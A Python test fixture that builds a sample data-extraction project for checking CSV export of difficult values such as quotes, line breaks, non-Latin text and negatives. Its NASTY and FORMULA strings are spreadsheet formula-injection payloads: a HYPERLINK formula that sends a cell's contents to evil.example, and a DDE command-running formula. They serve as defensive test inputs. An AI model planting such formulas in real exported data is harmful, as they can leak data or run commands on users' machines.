"""A small project to export: a form with every field type, and records that are hard
to write as CSV (commas, quotes, line breaks, non-Latin text, a formula, negatives).

Reviewer Ann extracts through the services; the final records are made from her
extractions directly through the ORM, as adjudication would leave them (kind "final",
status "final", owned by the adjudicator Cleo).
"""

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from sqlalchemy import select

from core.domain import FieldStatus
from core.services import documents, editing, extractions, rows
from core.services.project import Project
from core.services.read_models import anchor_model, anchor_row
from core.storage.models import Extraction, FieldValue, GroupRow, Reviewer
from core.templates import parse_template
from tests.helpers import CROHN_PHASE2

FORM = """
id: export_test
name: Export test form
version: "1"
sections:
  - id: identification
    label: Identification
    fields:
      - {id: registry_id, label: Registry ID, type: text}
      - {id: title, label: Title, type: long_text}
      - {id: year, label: Year, type: integer, min: 1900, max: 2100}
      - {id: start_date, label: Start date, type: partial_date}
  - id: design
    label: Design
    fields:
      - id: phase
        label: Phase
        type: single_choice
        required: true
        choices:
          - {code: "1", label: Phase 1}
          - {code: "2", label: Phase 2}
          - {code: "1_2", label: "Phase 1/2"}
      - id: features
        label: Design features
        type: multiple_choice
        choices:
          - {code: randomized, label: Randomized}
          - {code: blinded, label: Blinded}
          - {code: multicentre, label: Multicentre}
      - {id: placebo, label: Placebo controlled, type: boolean}
  - id: population
    label: Population
    fields:
      - {id: enrolled, label: Enrolled, type: integer, min: 0}
      - {id: mean_change, label: Mean change from baseline, type: decimal}
      - {id: follow_up, label: Follow-up, type: decimal, unit: weeks, units: [months]}
    groups:
      - id: arms
        label: Arms
        fields:
          - {id: label, label: Arm label, type: text}
          - {id: n_randomized, label: Randomized, type: integer, min: 0}
          - {id: dose, label: Dose, type: decimal, unit: mg}
rules:
  - id: arms_le_enrolled
    when: enrolled != null
    check: arms.all(a, a.n_randomized == null || a.n_randomized <= enrolled)
    message: An arm has more participants than were enrolled.
"""

NASTY = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click") He said "stop, now",\n'
    "then left; 患者二十三名 — ñandú, Ωmega"
)
FORMULA = "-2+3+cmd|' /C calc'!A0"  # a command-running payload that starts with '-'
NASTY_DOC = (
    "Trial report\n\nTitle follows.\n"
    + NASTY
    + "\n\nWe enrolled 23 participants. The mean change was -3.5 points.\n"
)


@dataclass
class Scene:
    project: Project
    nasty_study: int
    crohn_study: int
    open_study: int
    nasty_doc: int
    nasty_text: str
    ann: dict[int, int] = field(default_factory=dict)  # study id -> Ann's extraction
    final: dict[int, int] = field(default_factory=dict)  # study id -> final record
    expected: dict[int, dict[str, Any]] = field(default_factory=dict)


def form():  # type: ignore[no-untyped-def]
    return parse_template(FORM, "export_test.yaml", "yaml")


def _import(project: Project, path: Path, study: str) -> tuple[int, int]:
    outcomes, _ = documents.import_files(project, [path], study_name=study)
    doc = outcomes[0].document
    assert doc is not None, outcomes[0].error
    return doc.study_id, doc.id


def _fill(project: Project, ext: int, doc: int, text: str, path: str, quote: str) -> None:
    start = text.index(quote)
    editing.fill_from_selection(project, ext, path, doc, start, start + len(quote))


def build_scene(tmp_path: Path, target: str | Path | None = None) -> Scene:
    """The project (a SQLite file in `tmp_path`, or `target`) with its records."""
    project = Project.create(target or tmp_path / "export.sqlite", form())
    source = tmp_path / "nasty-report.txt"
    source.write_text(NASTY_DOC, encoding="utf-8")
    nasty_study, nasty_doc = _import(project, source, 'Nasty, "quoted" & 試験')
    crohn_study, crohn_doc = _import(project, CROHN_PHASE2, "Crohn phase 2")
    waiting = tmp_path / "open.txt"
    waiting.write_text("An open study with 40 participants.\n", encoding="utf-8")
    open_study, _ = _import(project, waiting, "Still open")
    text = documents.document_text(project, nasty_doc).text
    crohn_text = documents.document_text(project, crohn_doc).text
    extractions.add_reviewer(project, "Ann")
    scene = Scene(project, nasty_study, crohn_study, open_study, nasty_doc, text)

    ext = _start(scene, nasty_study)
    _fill(project, ext, nasty_doc, text, "title", NASTY)
    _fill(project, ext, nasty_doc, text, "enrolled", "23 participants")
    _fill(project, ext, nasty_doc, text, "mean_change", "-3.5")
    editing.set_value(project, ext, "registry_id", FORMULA)
    editing.set_value(project, ext, "year", 2019)
    editing.set_value(project, ext, "start_date", "2019-03")
    editing.set_value(project, ext, "phase", "1_2")
    editing.set_value(project, ext, "features", ["randomized", "blinded"])
    editing.set_value(project, ext, "placebo", True)
    editing.set_value(project, ext, "follow_up", 6, unit="months")
    for row, (label, n, dose) in enumerate((("Low, dose", 5, 10.0), ("High\ndose", 6, -0.5)), 1):
        rows.add_row(project, ext, "arms")
        editing.set_value(project, ext, f"arms[{row}].label", label)
        editing.set_value(project, ext, f"arms[{row}].n_randomized", n)
        editing.set_value(project, ext, f"arms[{row}].dose", dose)
    scene.expected[nasty_study] = {
        "registry_id": FORMULA,
        "title": NASTY,
        "year": 2019,
        "start_date": "2019-03",
        "phase": "1_2",
        "features": "randomized|blinded",
        "placebo": 1,
        "enrolled": 23,
        "mean_change": -3.5,
        "follow_up": 6,
        "follow_up__unit": "months",
    }

    ext2 = _start(scene, crohn_study)
    _fill(project, ext2, crohn_doc, crohn_text, "enrolled", "Twenty-three")
    editing.set_value(project, ext2, "phase", "2")
    editing.set_value(project, ext2, "placebo", False)
    editing.set_status(project, ext2, "mean_change", FieldStatus.NOT_REPORTED)
    editing.set_status(project, ext2, "year", FieldStatus.NOT_APPLICABLE)
    editing.set_status(project, ext2, "start_date", FieldStatus.UNCLEAR)
    scene.expected[crohn_study] = {
        "enrolled": 23,
        "phase": "2",
        "placebo": 0,
        "mean_change": "NR",
        "year": "NAP",
        "start_date": "UNCLEAR",
    }
    _start(scene, open_study)
    for study in (nasty_study, crohn_study):
        scene.final[study] = make_final(project, scene.ann[study], "Cleo")
    return scene


def _start(scene: Scene, study: int) -> int:
    info, _ = extractions.start_extraction(scene.project, study, "Ann")
    scene.ann[study] = info.id
    return info.id


def make_final(project: Project, extraction_id: int, adjudicator: str) -> int:
    """A finished final record holding a copy of the extraction's answers and evidence."""
    extractions.add_reviewer(project, adjudicator)
    with project.uow() as session:
        source = session.get(Extraction, extraction_id)
        assert source is not None
        person = session.scalars(select(Reviewer).where(Reviewer.name == adjudicator)).one()
        final = Extraction(
            study_id=source.study_id,
            reviewer_id=person.id,
            template_id=source.template_id,
            kind="final",
            status="final",
        )
        session.add(final)
        session.flush()
        rows: dict[int, int] = {}
        for row in session.scalars(
            select(GroupRow).where(GroupRow.extraction_id == extraction_id).order_by(GroupRow.id)
        ):
            copy = GroupRow(extraction_id=final.id, group_id=row.group_id, position=row.position)
            session.add(copy)
            session.flush()
            rows[row.id] = copy.id
        for value in session.scalars(
            select(FieldValue).where(FieldValue.extraction_id == extraction_id)
        ):
            key = value.field_key
            if value.row_id is not None:
                key = key.replace(f"#{value.row_id}.", f"#{rows[value.row_id]}.")
            copy_value = FieldValue(
                extraction_id=final.id,
                field_key=key,
                field_id=value.field_id,
                row_id=rows.get(value.row_id) if value.row_id is not None else None,
                status=value.status,
                raw_text=value.raw_text,
                value=value.value,
                unit=value.unit,
                note=value.note,
                updated_by_id=person.id,
            )
            for anchor in value.anchors:
                copy_value.anchors.append(anchor_row(anchor_model(anchor), anchor.position))
            session.add(copy_value)
        session.flush()
        return final.id
